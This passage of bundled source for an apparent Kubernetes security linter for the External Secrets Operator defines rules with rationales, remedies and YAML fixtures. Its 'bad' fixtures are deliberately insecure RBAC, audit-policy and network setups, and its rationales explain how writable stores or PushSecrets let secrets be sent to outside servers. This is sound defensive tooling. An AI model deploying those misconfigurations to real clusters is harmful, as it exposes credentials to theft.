metadata: { name: team-secrets }
rules:
  - apiGroups: [external-secrets.io]
    resources:
      - externalsecrets
      - clustersecretstores # finding: Group developers (in all namespaces) can create, patch ClusterSecretStores, ClusterPushSecrets and is not a configured operator
      - clusterpushsecrets
    verbs: [get, create, patch]
  - apiGroups: [generators.external-secrets.io]
    resources: ["*"] # finding: can update ClusterGenerators
    verbs: [update]
  - apiGroups: [external-secrets.io]
    resources: [clusterexternalsecrets]
    verbs: [get, list, watch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: team-secrets }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: team-secrets }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
# The operator chart's edit role, where the built-in edit is bound for the whole cluster.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: external-secrets-edit
  labels:
    rbac.authorization.k8s.io/aggregate-to-edit: "true" # finding: through this label and the built-in role edit or admin, Group developers (in all namespaces) can create, update, patch, delete, deletecollection ClusterSecretStores
    rbac.authorization.k8s.io/aggregate-to-admin: "true"
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets, secretstores, clustersecretstores]
    verbs: [create, delete, deletecollection, patch, update]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: developers }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`
  ],
  good: [
    `
# A RoleBinding gives nothing on cluster-scoped kinds; a role in nobody's hands gives nothing either.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: external-secrets-edit
  labels: { rbac.authorization.k8s.io/aggregate-to-edit: "true" }
rules:
  - apiGroups: [external-secrets.io]
    resources: [clustersecretstores, clusterexternalsecrets]
    verbs: [create, delete, deletecollection, patch, update]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: developers, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: developers-too, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: external-secrets-edit }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
# config: { operators: [{ kind: Group, name: platform }] }
# Operators, somebody who is filled in later, and a controller whose workload is not in the set.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-operator }
rules:
  - apiGroups: [external-secrets.io]
    resources: [clustersecretstores]
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-operator }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-operator }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: platform }
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: "\${ADMIN_GROUP}" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: secrets-controller }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets, externalsecrets/status, clustersecretstores, clustersecretstores/status]
    verbs: [get, update, patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: secrets-controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: secrets-controller }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`
  ],
  check: (role, world) => clusterWideWriteAccess(role, world, CLUSTER_SCOPED, (verbs) => verbs.length > 0 ? "critical" : void 0),
  fix: (fault) => unsafe(AGGREGATED2, withoutAggregation(fault)) ?? unsafe(
    WRITERS2,
    withoutWrites(fault, (written) => CLUSTER_SCOPED.some(({ resource }) => resource === written))
  )
});
var AGGREGATED2 = "Does anybody write ExternalSecrets, stores or PushSecrets by the built-in role edit or admin? They need a role of their own first.";
var WRITERS2 = "Do the holders of this role look after the operator's cluster-scoped kinds? They cannot write them any more.";

// src/rules/developer-can-write-generators.ts
var developer_can_write_generators_default = defineRule({
  id: "developer-can-write-generators",
  title: "Somebody who is no operator can create or change generators",
  severities: ["medium", "low"],
  kinds: ROLE_KINDS,
  why: "A generator signs in somewhere and brings back a credential: a registry token, a cloud session, a Vault lease, the answer of any URL. Whoever writes one chooses where the operator goes and as whom.",
  remedy: "Set `rbac.aggregateToEdit: false` and `rbac.aggregateToAdmin: false` (2.8.0 on) in the operator chart, and give developers only get, list and watch on generators.external-secrets.io. Name those who manage generators under `operators` in this tool's config.",
  references: [
    "https://external-secrets.io/latest/guides/generator/",
    "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#aggregated-clusterroles"
  ],
  guide: ["RM5"],
  bad: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: external-secrets-edit
  labels:
    rbac.authorization.k8s.io/aggregate-to-edit: "true" # finding: built-in role edit or admin can create, update, patch, delete, deletecollection generators, also anybody who is not a configured operator
rules:
  - apiGroups: [generators.external-secrets.io]
    resources: [clustergenerators, ecrauthorizationtokens, webhooks]
    verbs: [create, delete, deletecollection, patch, update]
`,
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: generator-author, namespace: shop }
rules:
  - apiGroups: [external-secrets.io, generators.external-secrets.io]
    resources:
      - externalsecrets
      - vaultdynamicsecrets # finding: Group developers (in namespace shop) can create generators and is not a configured operator
      - webhooks
    verbs: [get, create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: generator-author, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: generator-author }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: generator-admin }
rules:
  - apiGroups: [generators.external-secrets.io]
    resources: ["*"] # finding[low]: whoever gets this role can create, update, patch, delete, deletecollection generators, and no binding in the set says who that is
    verbs: ["*"]
`
  ],
  good: [
    `
# Reading is for developers; webhooks of another group are no generators; the state is the operator's own.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: generator-user, namespace: shop }
rules:
  - apiGroups: [generators.external-secrets.io]
    resources: ["*"]
    verbs: [get, list, watch]
  - apiGroups: [example.com]
    resources: [webhooks, passwords]
    verbs: ["*"]
  - apiGroups: [generators.external-secrets.io]
    resources: [generatorstates, passwords/status]
    verbs: [create, update, delete]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: generator-user, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: generator-user }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`
  ],
  check: (role, world) => writeAccess(role, world, GENERATORS, "low"),
  fix: (fault) => unsafe(AGGREGATED3, withoutAggregation(fault)) ?? unsafe(
    WRITERS3,
    withoutWrites(fault, (written) => GENERATORS.some(({ resource }) => resource === written))
  )
});
var AGGREGATED3 = "Does anybody write ExternalSecrets, stores or PushSecrets by the built-in role edit or admin? They need a role of their own first.";
var WRITERS3 = "Do the holders of this role look after generators? They cannot write them any more.";

// src/rules/developer-can-write-push-secrets.ts
var developer_can_write_push_secrets_default = defineRule({
  id: "developer-can-write-push-secrets",
  title: "Somebody who is no operator can create or change PushSecrets",
  severities: ["high", "medium"],
  kinds: ROLE_KINDS,
  why: "A PushSecret copies Secrets of its namespace out of the cluster with the rights of a store. Whoever writes one can carry Secrets away without the right to read them, or overwrite what others use in the provider.",
  remedy: "Set `rbac.aggregateToEdit: false` and `rbac.aggregateToAdmin: false` (2.8.0 on) in the operator chart, and give developers only get and list on pushsecrets. Name those who manage them under `operators` in this tool's config; set `processPushSecret: false` and `processClusterPushSecret: false` where nobody pushes.",
  references: [
    "https://external-secrets.io/latest/api/pushsecret/",
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#aggregated-clusterroles"
  ],
  guide: ["PS1", "PS5", "TM5"],
  bad: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: external-secrets-edit
  labels:
    rbac.authorization.k8s.io/aggregate-to-edit: "true" # finding: built-in role edit or admin can create, update, patch, delete, deletecollection PushSecrets
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets, pushsecrets]
    verbs: [create, delete, deletecollection, patch, update]
---
# Whoever is bound to the built-in role is part of the story, and no second finding.
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: shop-developers, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: secret-developer, namespace: shop }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, list, create, update]
  - apiGroups: [external-secrets.io]
    resources:
      - pushsecrets # finding: Group developers (in namespace shop) can create PushSecrets and is not a configured operator
    verbs: [get, list, create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: secret-developer, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: secret-developer }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: push-secret-admin }
rules:
  - apiGroups: [external-secrets.io]
    resources: [pushsecrets] # finding[medium]: no binding in the set says who that is
    verbs: [create, delete]
`
  ],
  good: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: secret-developer, namespace: shop }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, list, create, update, delete]
  - apiGroups: [external-secrets.io]
    resources: [pushsecrets]
    verbs: [get, list]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: secret-developer, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: secret-developer }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
# create and deletecollection carry no name, so that a rule with resourceNames gives neither.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: push-nothing }
rules:
  - apiGroups: [external-secrets.io]
    resources: [pushsecrets]
    resourceNames: [backup]
    verbs: [get, create, deletecollection]
`
  ],
  check: (role, world) => writeAccess(role, world, { resource: "pushsecrets", plural: "PushSecrets" }),
  fix: (fault) => unsafe(AGGREGATED4, withoutAggregation(fault)) ?? unsafe(
    WRITERS4,
    withoutWrites(fault, (resource) => resource === "pushsecrets")
  )
});
var AGGREGATED4 = "Does anybody write ExternalSecrets, stores or PushSecrets by the built-in role edit or admin? They need a role of their own first.";
var WRITERS4 = "Do the holders of this role look after PushSecrets? They cannot write them any more.";

// src/rules/developer-can-write-secret-stores.ts
var developer_can_write_secret_stores_default = defineRule({
  id: "developer-can-write-secret-stores",
  title: "Somebody who is no operator can create or change SecretStores",
  severities: ["high", "medium"],
  kinds: ROLE_KINDS,
  why: "A SecretStore says which server the operator talks to and with which identity. Whoever writes one can send credentials to a server of their own, or fetch what the operator may fetch.",
  remedy: "Set `rbac.aggregateToEdit: false` and `rbac.aggregateToAdmin: false` (2.8.0 on) in the operator chart, and give developers only get, list and watch on secretstores. Name those who manage stores under `operators` in this tool's config.",
  references: [
    "https://external-secrets.io/latest/guides/threat-model/",
    "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#aggregated-clusterroles"
  ],
  guide: ["RM4", "RM5", "TM4"],
  bad: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: external-secrets-edit
  labels:
    rbac.authorization.k8s.io/aggregate-to-edit: "true" # finding: built-in role edit or admin can create, update, patch, delete, deletecollection SecretStores, also anybody who is not a configured operator
    rbac.authorization.k8s.io/aggregate-to-admin: "true" # finding: built-in role admin can create
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets, secretstores, clustersecretstores, pushsecrets]
    verbs: [create, delete, deletecollection, patch, update]
`,
    `
# A RoleBinding to a ClusterRole gives its rights in the binding's namespace only.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: secret-developer }
rules:
  - apiGroups: [external-secrets.io]
    resources:
      - externalsecrets
      - secretstores # finding: Group developers (in namespace shop), ServiceAccount shop/deploy (in namespace shop) can create, update SecretStores and none of them is a configured operator
    verbs: [get, list, watch, create, update]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: secret-developer, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: secret-developer }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
  - { kind: ServiceAccount, name: deploy }
`,
    `
# The verb * writes too, and so does a change of one named store; create is never given by name.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: store-tuner, namespace: shop }
rules:
  - apiGroups: [external-secrets.io]
    resources: ["*"] # finding: User ann (in namespace shop) can update, patch, delete SecretStores named vault and is not a configured operator
    resourceNames: [vault]
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: store-tuner, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: store-tuner }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: User, name: ann }
`,
    `
# Labels of a Role aggregate nothing, so this one waits for a binding that is not here.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: store-editor
  namespace: shop
  labels: { rbac.authorization.k8s.io/aggregate-to-edit: "true" }
rules:
  - apiGroups: [external-secrets.io]
    resources: [secretstores] # finding[medium]: whoever gets this role can create SecretStores, and no binding in the set says who that is
    verbs: [get, create]
`,
    `
# Through an aggregating ClusterRole of one's own; what that says itself is overwritten.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: stores, labels: { example.com/aggregate-to-team: "true" } }
rules:
  - apiGroups: [external-secrets.io]
    resources: [secretstores] # finding: Group team (in all namespaces) can patch SecretStores
    verbs: [patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: team }
aggregationRule:
  clusterRoleSelectors:
    - matchLabels: { example.com/aggregate-to-team: "true" }
rules:
  - apiGroups: [external-secrets.io]
    resources: [secretstores]
    verbs: [create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: team }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: team }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: team }
`
  ],
  good: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: external-secrets-view
  labels: { rbac.authorization.k8s.io/aggregate-to-edit: "true" }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets, secretstores]
    verbs: [get, list, watch]
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets, secretstores/status]
    verbs: [create, update, patch, delete]
  - apiGroups: [example.com]
    resources: [secretstores]
    verbs: [create]
`,
    `
# The operator itself, and Argo CD that deploys for the operators.
apiVersion: apps/v1
kind: Deployment
metadata: { name: secrets-operator, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: controller
      containers:
        - { name: controller, image: "registry.example.com/external-secrets:v2.9.0" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: stores }
rules:
  - apiGroups: [external-secrets.io]
    resources: [secretstores]
    verbs: [get, create, update, patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: stores }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: stores }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
  - { kind: ServiceAccount, name: argocd-application-controller, namespace: argocd }
`,
    `
# Who that is, is filled in later.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: stores }
rules:
  - apiGroups: [external-secrets.io]
    resources: [secretstores]
    verbs: [create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: stores }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: stores }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: "\${PLATFORM_GROUP}" }
`,
    `
# The operator chart with rbac.aggregateToEdit=false: its role is there for operators, and in nobody's hands.
apiVersion: apps/v1
kind: Deployment
metadata:
  name: external-secrets
  namespace: eso
  labels: { app.kubernetes.io/name: external-secrets, app.kubernetes.io/instance: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: external-secrets, image: "registry.example.com/external-secrets:v2.9.0" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: eso-edit
  labels: { app.kubernetes.io/name: external-secrets, app.kubernetes.io/instance: eso }
rules:
  - apiGroups: [external-secrets.io]
    resources: [secretstores]
    verbs: [create, delete, deletecollection, patch, update]
`
  ],
  check: (role, world) => writeAccess(role, world, { resource: "secretstores", plural: "SecretStores" }),
  fix: (fault) => unsafe(AGGREGATED5, withoutAggregation(fault)) ?? unsafe(
    WRITERS5,
    withoutWrites(fault, (resource) => resource === "secretstores")
  )
});
var AGGREGATED5 = "Does anybody write ExternalSecrets, stores or PushSecrets by the built-in role edit or admin? They need a role of their own first.";
var WRITERS5 = "Do the holders of this role look after SecretStores? They cannot write them any more.";

// src/rules/eso-changes-not-audited.ts
var eso_changes_not_audited_default = defineRule({
  id: "eso-changes-not-audited",
  title: "The audit policy does not log changes to the operator's objects",
  severities: ["medium"],
  kinds: [AUDIT_POLICY_KIND],
  needs: ["audit-policy"],
  why: "Whoever changes a store, an ExternalSecret or a PushSecret decides where Secrets come from and where they go. When that is not in the audit log, nobody can find out afterwards who sent which Secret to which server.",
  remedy: "Log `create`, `update`, `patch` and `delete` of all resources of the groups `external-secrets.io` and `generators.external-secrets.io` at `RequestResponse` (at least `Metadata`), in a rule that stands before those that take them at `None`. On a managed cluster, ask the provider what its audit log takes in.",
  references: [
    "https://kubernetes.io/docs/tasks/debug/debug-cluster/audit/",
    "https://kubernetes.io/docs/reference/config-api/apiserver-audit.v1/"
  ],
  guide: ["AO3", "TM5"],
  bad: [
    `
apiVersion: audit.k8s.io/v1
kind: Policy
rules: # finding: no rule of the audit policy logs changes of ClusterExternalSecrets, ClusterGenerators, ClusterPushSecrets, ClusterSecretStores, ExternalSecrets, PushSecrets, SecretStores, generators
  - level: Metadata
    resources:
      - { group: "", resources: [secrets] }
`,
    `
# The first rule that matches counts, for users and namespaces that are singled out as well.
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - level: RequestResponse
    users: [ann]
  - level: RequestResponse
    namespaces: [shop]
  - level: None # finding: this rule of the audit policy keeps changes of ExternalSecrets out of the log
    resources:
      - { group: external-secrets.io, resources: [externalsecrets] }
  - level: Metadata
`,
    `
# What is in no namespace is in none of the list.
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - level: None # finding: ClusterExternalSecrets, ClusterGenerators, ClusterPushSecrets, ClusterSecretStores
    namespaces: [""]
  - level: Metadata
`
  ],
  good: [
    `
apiVersion: audit.k8s.io/v1
kind: Policy
omitStages: [RequestReceived]
rules:
  - level: None
    users: [system:serviceaccount:eso:external-secrets]
  - level: None
    verbs: [get, list, watch]
  - level: RequestResponse
    resources:
      - { group: external-secrets.io }
      - { group: generators.external-secrets.io, resources: ["*"] }
`,
    `
# A level that is filled in later may be enough.
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - level: "\${LEVEL}"
`
  ],
  *check(policy) {
    const silent = ESO_RESOURCES.flatMap((resource) => {
      const decisions = CHANGES.flatMap((verb) => decisionOn(policy, requestOf(resource, verb)) ?? []);
      const [found] = decisions.filter(({ level }) => level !== void 0 && !logs(level, "Metadata"));
      return found ? [{ plural: resource.plural, found }] : [];
    });
    for (const group of Map.groupBy(silent, ({ found }) => JSON.stringify(found.path)).values()) {
      const [first] = group;
      if (!first) continue;
      const kinds = [...new Set(group.map(({ plural }) => plural))].sort().join(", ");
      yield { path: pathOf2(first.found), message: causeOf(first.found, kinds) };
    }
  },
  fix: () => unsafe(READ2, generated("audit-policy"))
});
var READ2 = "May the log of the API server grow by an entry for each change of the operator’s objects?";
var CHANGES = ["create", "update", "patch", "delete"];
var requestOf = (resource, verb) => ({
  group: groupOfResource(resource),
  resource: resource.resource,
  isNamespaced: !resource.resource.startsWith("cluster"),
  verb
});
var isRule = ({ path }) => path.length > 1;
var pathOf2 = (decision) => isRule(decision) ? [...decision.path, "level"] : decision.path;
var causeOf = (decision, kinds) => isRule(decision) ? `this rule of the audit policy keeps changes of ${kinds} out of the log` : `no rule of the audit policy logs changes of ${kinds}`;

// src/check/shared-namespace.ts
var neighbours = (component, world) => world.pods.filter((pod) => isNeighbour(pod, component.pod, world)).map(({ manifest }) => manifest);
var isNeighbour = (pod, own, { eso }) => own.namespace !== void 0 && pod.namespace === own.namespace && staysInstalled(pod.manifest) && !eso.componentOf(pod.manifest) && !eso.isOwnPart(pod.manifest) && (pod.serviceAccountName !== own.serviceAccountName || pod.serviceAccountName === "default") && !isOfSameChart(pod.manifest, own.manifest);
function isOfSameChart(manifest, own) {
  const root = own.template?.split("/templates/")[0];
  return root !== void 0 && manifest.template?.startsWith(`${root}/`) === true;
}

// src/rules/eso-in-shared-namespace.ts
var NAMED4 = 2;
var eso_in_shared_namespace_default = defineRule({
  id: "eso-in-shared-namespace",
  title: "The operator has no namespace of its own",
  severities: ["medium"],
  kinds: WORKLOAD_KINDS,
  needs: ["install"],
  why: "Whoever may start pods in the namespace of the operator runs them with its ServiceAccount, and so with its rights to the Secrets of the cluster. Every other workload there, and everybody who looks after one, is a way to it.",
  remedy: "Install the operator into a namespace that holds nothing else (`helm install --namespace external-secrets`, or the namespace of your Argo CD or Flux object), and give nobody but its operators rights there.",
  references: [
    "https://external-secrets.io/latest/guides/threat-model/",
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#workload-creation"
  ],
  guide: ["NS1"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata:
  name: external-secrets
  namespace: kube-system # finding: the controller runs in namespace kube-system
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
apiVersion: apps/v1
kind: Deployment
metadata:
  name: external-secrets
  namespace: platform # finding: the controller shares namespace platform with Deployment platform/shop, StatefulSet platform/db and 1 more
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: platform }
spec: { template: { spec: { containers: [{ name: shop, image: shop:1 }] } } }
---
apiVersion: apps/v1
kind: StatefulSet
metadata: { name: db, namespace: platform }
spec: { template: { spec: { containers: [{ name: db, image: db:1 }] } } }
---
apiVersion: batch/v1
kind: CronJob
metadata: { name: backup, namespace: platform }
spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: backup, image: backup:1 }] } } } } }
`,
    `
apiVersion: apps/v1
kind: Deployment
metadata:
  name: external-secrets
  namespace: default # finding: the controller runs in namespace default
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: external-secrets
  namespace: platform # finding: the controller shares namespace platform with Deployment platform/shop and StatefulSet platform/db
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: platform }
spec: { template: { spec: { containers: [{ name: shop, image: shop:1 }] } } }
---
apiVersion: apps/v1
kind: StatefulSet
metadata: { name: db, namespace: platform }
spec: { template: { spec: { containers: [{ name: db, image: db:1 }] } } }
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [webhook] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: shop }
spec: { template: { spec: { containers: [{ name: shop, image: shop:1 }] } } }
---
# Gone once it succeeded.
apiVersion: batch/v1
kind: Job
metadata:
  name: prepare
  namespace: eso
  annotations: { helm.sh/hook: pre-install, helm.sh/hook-delete-policy: hook-succeeded }
spec: { template: { spec: { containers: [{ name: prepare, image: prepare:1 }] } } }
`,
    `
# Whoever applies this says where it goes.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop }
spec: { template: { spec: { serviceAccountName: shop, containers: [{ name: shop, image: shop:1 }] } } }
`
  ],
  *check(workload, world) {
    const component = world.eso.componentOf(workload);
    if (component?.role !== "controller" || component.pod.namespace === void 0) return;
    const { namespace } = component.pod;
    const others = neighbours(component, world);
    const isCommon = namespace === "default" || namespace.startsWith("kube-");
    if (!isCommon && others.length === 0) return;
    const more = others.length > NAMED4 ? ` and ${others.length - NAMED4} more` : "";
    const beside = `${others.slice(0, NAMED4).map(nameOf).join(others.length > NAMED4 ? ", " : " and ")}${more}`;
    yield {
      path: ["metadata", "namespace"],
      message: isCommon ? `the controller runs in namespace ${namespace}, which is not its own` : `the controller shares namespace ${namespace} with ${beside}`
    };
  }
});

// src/rules/eso-without-network-policy.ts
var eso_without_network_policy_default = defineRule({
  id: "eso-without-network-policy",
  title: "No network policy isolates a pod of the operator",
  severities: ["high", "medium"],
  kinds: WORKLOAD_KINDS,
  needs: ["install"],
  why: "The operator holds provider credentials and, by default, every Secret of the cluster. Without a policy for ingress any pod can reach its ports; without one for egress whoever takes over the pod, or may write a store that names a server, can send what it holds to any address.",
  remedy: "Set `networkPolicy.enabled`, `webhook.networkPolicy.enabled` and `certController.networkPolicy.enabled` in the operator chart (2.8.0 on), each with its own `egress` rules for DNS, the API server and the providers: the chart’s default is none, which denies all egress. Or add a policy of your own that selects the pods for ingress and egress. Leave `hostNetwork` off: policies pass over such pods.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://kubernetes.io/docs/concepts/services-networking/network-policies/#the-two-sorts-of-pod-isolation"
  ],
  guide: ["NS1", "TM1"],
  bad: [
    `
# A policy without policyTypes and without egress rules isolates for ingress only.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: eso, namespace: eso }
spec:
  podSelector:
    matchLabels: { app: external-secrets }
  ingress: []
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    metadata:
      labels: { app: external-secrets }
    spec: # finding: no policy in the set selects the controller for egress: it can connect to any address, and it has rights to the Secrets of all namespaces
      serviceAccountName: controller
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-controller }
rules:
  - { apiGroups: [""], resources: [secrets], verbs: [get, list, watch] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-controller }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`,
    `
# The agent refuses an empty list of rules together with the whole policy: "ingress: [{}]" would deny.
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: { name: default-deny-ingress, namespace: eso }
spec:
  endpointSelector: {}
  ingress: []
---
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: { name: egress, namespace: eso }
spec:
  endpointSelector: {}
  egress:
    - toEntities: [kube-apiserver]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec: # finding[medium]: no policy in the set selects the controller for ingress: any pod of the cluster can connect to it
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  good: [
    `
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: default-deny, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Ingress, Egress]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: { name: ingress, namespace: eso }
spec:
  endpointSelector:
    matchLabels: { "k8s:app": external-secrets }
  ingress:
    - {}
---
apiVersion: projectcalico.org/v3
kind: GlobalNetworkPolicy
metadata: { name: no-egress }
spec:
